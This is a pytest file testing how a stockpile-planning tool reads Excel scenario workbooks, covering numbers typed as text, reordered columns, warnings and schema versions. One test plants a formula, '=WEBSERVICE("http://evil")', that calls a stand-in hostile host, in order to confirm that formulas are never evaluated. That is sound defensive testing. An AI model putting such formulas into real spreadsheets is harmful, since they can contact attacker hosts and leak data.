"""Reading accepts what real spreadsheet programs write: cached formula results, numbers
stored as text, blank rows, extra and re-ordered columns, extra sheets, moved headings."""

from __future__ import annotations

import random
from dataclasses import replace

import pytest

from reserve_planner.io import schema_version
from reserve_planner.io.cell_values import parse_number_text
from reserve_planner.io.raw_workbook import RawCell, RawSheet, RawWorkbook
from reserve_planner.io.workbook import (
    WorkbookError,
    parse_scenario,
    parse_scenario_with_warnings,
    read_workbook_bytes,
)


@pytest.fixture
def raw(template) -> RawWorkbook:
    """The template's cells, fresh for each test, to feed the parser directly."""
    return read_workbook_bytes(template, "template.xlsx")


@pytest.mark.parametrize(("text", "number"), [
    ("1,200", 1200.0), ("15%", 0.15), ("$110", 110.0), ("1 200", 1200.0),
    ("1\u00a0200,5", 1200.5), ("0,25", 0.25), ("12,5 %", 0.125), ("1.234,5", 1234.5),
    ("1.200.000", 1_200_000.0), ("(1,200)", -1200.0), ("-$5", -5.0), ("$-5", -5.0),
    ("110 USD", 110.0), ("\u22123", -3.0), ("1e3", 1000.0), (" 7 ", 7.0), ("1,2345", 1.2345),
    ("1'000", 1000.0), (".5", 0.5),
])
def test_numbers_typed_as_text(text, number):
    assert parse_number_text(text) == pytest.approx(number, rel=1e-15)


@pytest.mark.parametrize("text", ["", "abc", "1,2,3", "--4", "$", "%", "nan", "inf", "1 2",
                                  "12abc", "1.2.3,4,5", "0x10", "1_000"])
def test_text_that_is_not_clearly_a_number(text):
    assert parse_number_text(text) is None


def test_numbers_stored_as_text_load(tools, template, baseline):
    ndpr, dy = baseline.material("NdPr oxide"), baseline.material("Dy oxide")
    shock = next(s for s in baseline.scenarios if s.name == "Licensing shock (April 2025 repeat)")
    assert not baseline.scenarios[0].hits_allied_supply

    def edit(wb):  # the baseline's own values, typed as text the way people type them
        tools.set_cell(wb, "Materials", "NdPr oxide", "Price ($/kg)",
                       f"${ndpr.price_usd_per_kg:g}")
        tools.set_cell(wb, "Materials", "NdPr oxide", "Demand (t/yr)",
                       f"{ndpr.demand_t_per_yr:,.1f}".replace(",", " ").replace(".", ","))
        tools.set_cell(wb, "Materials", "NdPr oxide", "China-exposed share (%)",
                       f"{ndpr.china_exposed_share * 100:g}%")
        tools.set_cell(wb, "Materials", "Dy oxide", "Storage cost ($/t/yr)",
                       f"{dy.storage_cost_usd_per_t_yr:,.0f}")
        tools.set_cell(wb, "Settings", "Annual purchase budget", "Value",
                       f"${baseline.policy.annual_budget_usd:,.0f}")
        tools.set_cell(wb, "Settings", "Horizon", "Value", str(baseline.policy.horizon_months))
        tools.set_cell(wb, "Scenarios", "No disruption", "Hits allied supply", "no")
        tools.set_cell(wb, "Scenarios", "Licensing shock (April 2025 repeat)",
                       "Price multiplier during (x)",
                       f"{shock.price_multiplier_during:g}".replace(".", ","))

    loaded, warnings = tools.load(tools.edited(template, edit))
    assert loaded == baseline and warnings == []


def test_cached_formula_results_are_read_and_never_evaluated(raw, baseline):
    materials = raw.sheet("Materials")
    materials.cells[(2, 6)] = RawCell(85, "=80+5")
    materials.cells[(3, 6)] = RawCell(225.0, "=WEBSERVICE(\"http://evil\")")
    inputs = parse_scenario(raw)
    assert inputs.materials[0].price_usd_per_kg == 85
    assert inputs.materials[1].price_usd_per_kg == 225.0


def test_blank_rows_and_whitespace_cells_are_skipped(tools, template, baseline):
    def edit(wb):
        for name in ("Materials", "Projects", "Scenarios", "Series", "Sources"):
            ws = wb[name]
            last = ws.max_row
            ws.insert_rows(3)  # a blank row inside the table
            for r in range(last + 2, last + 8):  # blank trailing rows, some with spaces
                ws.cell(r, 1).value = "   " if r % 2 else None
                ws.cell(r, 2).number_format = "0.00"

    loaded, warnings = tools.load(tools.edited(template, edit))
    assert loaded == baseline and warnings == []


def test_extra_columns_and_sheets_are_ignored_with_a_warning(tools, template, baseline):
    def edit(wb):
        ws = wb["Materials"]
        col = ws.max_column + 1
        ws.cell(1, col).value = "Comment"
        ws.cell(2, col).value = "double-check"
        ws.cell(3, col + 1).value = 42  # no heading
        wb.create_sheet("Workings")["A1"] = "scratch"

    loaded, warnings = tools.load(tools.edited(template, edit))
    assert loaded == baseline
    assert warnings == [
        "sheet 'Workings' is not part of a scenario workbook and was not read",
        "Materials!R1: column 'Comment' is not part of the Materials table and was not read",
        "Materials!S1: this column has values but no heading; it was not read",
    ]


def _shuffle_columns(sheet: RawSheet, seed: int) -> None:
    width = sheet.max_column
    order = list(range(1, width + 1))
    random.Random(seed).shuffle(order)
    sheet.cells = {(r, order[c - 1]): cell for (r, c), cell in sheet.cells.items()}


def test_reordered_columns_are_matched_by_heading(raw, baseline):
    for i, name in enumerate(("Settings", "Materials", "Projects", "Scenarios", "Episodes",
                              "Series", "Sources")):
        _shuffle_columns(raw.sheet(name), seed=i)
    inputs, warnings = parse_scenario_with_warnings(raw)
    assert inputs == baseline and dict(inputs.sources) == dict(baseline.sources)
    assert warnings == []


def test_title_rows_above_the_headings_and_sheet_names_in_other_case(raw, baseline):
    sheet = raw.sheet("Materials")
    sheet.cells = {(r + 2, c): cell for (r, c), cell in sheet.cells.items()}
    sheet.cells[(1, 1)] = RawCell("Materials for the 2027 run")
    sheet.name = "MATERIALS"
    assert parse_scenario(raw) == baseline


def test_headings_by_field_name_or_without_unit(raw, baseline):
    sheet = raw.sheet("Materials")
    sheet.cells[(1, 2)] = RawCell("demand_t_per_yr")
    sheet.cells[(1, 6)] = RawCell("price")
    assert parse_scenario(raw) == baseline


def test_true_false_yes_no_and_one_zero(raw, baseline):
    sheet = raw.sheet("Scenarios")
    hits = [r for r in range(2, 15) if sheet.cell(r, 6).value is not None]
    for r, text in zip(hits, ["FALSE", "no", 0, "No", "false", "N", 0.0, "0", "nein", "no",
                              "no", "no", "no"], strict=False):
        if sheet.cell(r, 6).value is False:
            sheet.cells[(r, 6)] = RawCell(text)
    assert parse_scenario(raw) == baseline


def test_missing_optional_column_uses_its_default(raw, baseline):
    sheet = raw.sheet("Materials")
    sheet.cells = {k: v for k, v in sheet.cells.items() if k[1] != 12}  # Starting stock
    inputs, warnings = parse_scenario_with_warnings(raw)
    assert inputs == baseline
    assert warnings == ["Materials: no 'Starting stock (t)' column; every row uses 0"]


def test_edited_read_only_cells_are_reported(raw, baseline):
    raw.sheet("Materials").cells[(2, 17)] = RawCell("my own source")
    raw.sheet("Settings").cells[(5, 5)] = RawCell("my estimate")
    raw.sheet("Series").cells[(3, 5)] = RawCell(2800)
    inputs, warnings = parse_scenario_with_warnings(raw)
    assert inputs == baseline
    assert warnings == [
        "Series!E3: demand is computed from the Materials sheet (demand and growth) and is not "
        "read; the value 2800 typed here was ignored",
        "Materials!Q2: the Sources column is for reading; sources are read from the Sources "
        "sheet, so this edit was not kept",
        "Settings!E5: the Source column is for reading; sources are read from the Sources "
        "sheet, so this edit was not kept",
    ]


def test_a_series_that_starts_in_another_year(raw, baseline):
    raw.sheet("Settings").cells[(4, 2)] = RawCell(2028)
    inputs, warnings = parse_scenario_with_warnings(raw)
    assert inputs == replace(baseline, policy=replace(baseline.policy, start_year=2028))
    assert warnings[0] == ("Series!B2: the supply of 'NdPr oxide' starts in 2027 and the plan "
                           "in 2028; its first row is read as the first plan year")
    assert len(warnings) == 4


def test_sources_and_metadata_sheets_may_be_missing(raw, baseline):
    raw.sheets = [s for s in raw.sheets if s.name not in ("Sources", "Metadata", "Floors")]
    inputs, warnings = parse_scenario_with_warnings(raw)
    assert inputs == baseline and dict(inputs.sources) == {}
    assert warnings == ["Metadata: the sheet is missing; the workbook is read as schema "
                        "version 1",
                        "Sources: the sheet is missing; the values are read without their "
                        "sources"]


def test_floor_levels(raw, baseline):
    floors = raw.sheet("Floors")
    floors.cells.update({(2, 1): RawCell("NdPr oxide"), (2, 2): RawCell(110),
                         (3, 1): RawCell("Dy oxide"), (3, 2): RawCell("0"),
                         (4, 1): RawCell("NdPr oxide"), (4, 2): RawCell("$0")})
    inputs = parse_scenario(raw)
    assert inputs.policy.floor_candidates_usd_per_kg == (("NdPr oxide", (110.0, 0.0)),
                                                         ("Dy oxide", (0.0,)))


# --- schema versions ---------------------------------------------------------------------

def _set_version(raw: RawWorkbook, value) -> None:
    raw.sheet("Metadata").cells[(3, 2)] = RawCell(value)


def test_a_newer_schema_version_is_refused_with_a_sentence(raw):
    _set_version(raw, 2)
    with pytest.raises(WorkbookError) as info:
        parse_scenario(raw)
    assert str(info.value) == (
        "Metadata!B3: this workbook has schema version 2, written by a newer Reserve Planner; "
        "this program reads versions up to 1. Update Reserve Planner to open it.")


def test_an_older_schema_version_is_refused_with_a_sentence(raw):
    _set_version(raw, 0)
    with pytest.raises(WorkbookError) as info:
        parse_scenario(raw)
    assert str(info.value) == (
        "Metadata!B3: this workbook has schema version 0, which this program cannot read (it "
        "reads schema version 1). Copy its values into a new template made with "
        "'reserve-planner template FILE.xlsx'.")


def test_a_schema_version_that_is_not_a_number(raw):
    _set_version(raw, "one")
    with pytest.raises(WorkbookError) as info:
        parse_scenario(raw)
    assert str(info.value) == ("Metadata!B3: schema version 'one' is not a whole number; this "
                               "program reads schema version 1")


def test_an_older_schema_version_with_a_migration_loads(raw, baseline, monkeypatch):
    """When a layout changes, MIGRATIONS upgrades older workbooks; this checks the hook with
    a made-up version 0 whose Scenarios sheet was called 'Futures'."""
    def upgrade(old: RawWorkbook) -> RawWorkbook:
        old.sheet("Futures").name = "Scenarios"
        return old

    monkeypatch.setattr(schema_version, "OLDEST_READABLE", 0)
    monkeypatch.setitem(schema_version.MIGRATIONS, 0, upgrade)
    raw.sheet("Scenarios").name = "Futures"
    _set_version(raw, 0)
    inputs, warnings = parse_scenario_with_warnings(raw)
    assert inputs == baseline
    assert warnings == ["the workbook was upgraded from schema version 0 to 1; save it to "
                        "keep the new layout"]


def test_a_results_workbook_loads_as_a_scenario_without_warnings_for_its_results(
        tools, baseline, tmp_path):
    from reserve_planner.io.results_workbook import export_results_workbook
    from reserve_planner.io.workbook import load_scenario_workbook_with_warnings
    from reserve_planner.optimize import SolveOptions, solve

    result = solve(baseline, SolveOptions(diagnostics=False))
    path = tmp_path / "results.xlsx"
    export_results_workbook(baseline, result, path)
    inputs, warnings = load_scenario_workbook_with_warnings(path)
    assert inputs == baseline and dict(inputs.sources) == dict(baseline.sources)
    assert warnings == []


def test_a_scenario_built_from_rows_in_code():
    """The parser needs no file: a minimal workbook, typed in as rows."""
    raw = RawWorkbook("typed.xlsx", [
        RawSheet.from_rows("Settings", [
            ["Setting", "Value", "Unit"], ["Plan name", "Tiny"], ["Start year", 2030],
            ["Horizon", 24, "months"], ["Annual purchase budget", "$5,000,000"],
            ["Total purchase budget", None], ["Tariff on Chinese imports", "0%"],
            ["Tariff pass-through", 0.5], ["Tariffed input share", 0],
            ["Minimum cover", 0], ["Minimum cover by", 12], ["Risk aversion", 0],
            ["CVaR level", "90%"], ["Discount rate", "3%"], ["Salvage share", 1],
            ["Floor upside share", 0]]),
        RawSheet.from_rows("Materials", [
            ["Material", "Demand (t/yr)", "Demand growth (per yr)",
             "China-exposed share (%)", "Allied exposed share (%)", "Price ($/kg)",
             "Price volatility (log s.d.)", "Storage cost ($/t/yr)", "Shortage cost ($/kg)",
             "Purchase limit (t/month)", "Release limit (t/month)"],
            ["X", 1200, 0, 1, 0, 50, 0, 12000, 10, 1000, 1000]]),
        RawSheet.from_rows("Projects", [["Project", "Material", "Kind", "Capacity (t/yr)",
                                         "Unit cost ($/kg)", "Earliest online (month)",
                                         "Ramp-up (months)", "Failure probability (%)"]]),
        RawSheet.from_rows("Scenarios", [
            ["Scenario", "Probability (%)", "Start (month)", "Duration (months)",
             "Depth: X"],
            ["calm", "50%", 0, 0, None], ["cut", 0.5, 3, 6, 1]]),
        RawSheet.from_rows("Series", [
            ["Material", "Year", "Domestic supply (t/yr)", "Allied supply (t/yr)"],
            ["X", 2030, 0, 0]]),
    ])
    inputs, warnings = parse_scenario_with_warnings(raw)
    assert inputs.name == "Tiny" and inputs.policy.horizon_months == 24
    assert inputs.policy.annual_budget_usd == 5e6 and inputs.policy.cvar_level == 0.9
    assert inputs.materials[0].starting_stock_t == 0.0
    assert [s.depth_by_material for s in inputs.scenarios] == [(), (("X", 1.0),)]
    assert inputs.projects == ()
    assert warnings == [
        "Metadata: the sheet is missing; the workbook is read as schema version 1",
        "Materials: no 'Starting stock (t)' column; every row uses 0",
        "Materials: no 'Demand curve' column; every row uses 'flat'",
        "Materials: no 'Demand elasticity (-)' column; every row uses 0",
        "Materials: no 'Spot market (t/month)' column; every row uses 0",
        "Materials: no 'Spot China licensed' column; every row uses FALSE",
        "Projects: no 'Government equity ($)' column; every row uses 0",
        "Projects: no 'Committed by' column; every row is left blank",
        "Projects: no 'Government loan ($)' column; every row uses 0",
        "Projects: no 'Loan loss given default (%)' column; every row uses 0.45",
        "Scenarios: no 'Note' column; every row is left blank",
        "Scenarios: no 'Hits allied supply' column; every row uses FALSE",
        "Scenarios: no 'Price multiplier during (x)' column; every row uses 1",
        "Scenarios: no 'Price multiplier after (x)' column; every row uses 1",
        "Scenarios: no 'After-period (months)' column; every row uses 0",
        "Scenarios: no 'Earliest start (month)' column; every row is left blank",
        "Scenarios: no 'Latest start (month)' column; every row is left blank",
        "Scenarios: no 'Start hazard (per yr)' column; every row uses 0",
        "Scenarios: no 'Price from curve' column; every row uses FALSE",
        "Sources: the sheet is missing; the values are read without their sources",
    ]
